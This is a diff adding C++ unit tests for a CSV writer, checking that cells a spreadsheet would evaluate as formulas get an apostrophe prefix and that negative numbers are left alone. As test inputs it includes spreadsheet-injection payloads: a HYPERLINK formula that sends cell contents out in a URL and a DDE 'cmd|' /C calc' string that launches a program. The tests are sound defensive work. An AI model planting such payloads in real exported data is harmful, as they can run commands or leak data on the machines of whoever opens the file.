@@ -75,3 +75,27 @@ TEST_CASE("text is quoted where it must be") {
   CHECK(quoted("say \"x\"") == "\"say \"\"x\"\"\"");
   CHECK(quoted("two\r\nlines") == "\"two\r\nlines\"");
 }
+
+TEST_CASE("text that a spreadsheet would run as a formula is made harmless") {
+  const auto cell = [](std::string_view text) {
+    std::string out;
+    append_csv_text(out, text);
+    return out;
+  };
+  CHECK(cell("=HYPERLINK(\"http://x/?q=\"&A1,\"c\")") == "\"'=HYPERLINK(\"\"http://x/?q=\"\"&A1,\"\"c\"\")\"");
+  CHECK(cell("+1") == "'+1");
+  CHECK(cell("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0");
+  CHECK(cell("@SUM(1)") == "'@SUM(1)");
+  CHECK(cell("\t=1") == "'\t=1");
+  CHECK(cell("\r=1") == "\"'\r=1\"");
+  CHECK(cell("a=1") == "a=1");
+  CHECK(cell("") == "");
+}
+
+TEST_CASE("a negative number stays a number") {
+  RunRow run;
+  run.figures.latency_us = -0.5;
+  std::string row;
+  append_csv_row(row, run);
+  CHECK(row.find(",-0.5,") != std::string::npos);
+}
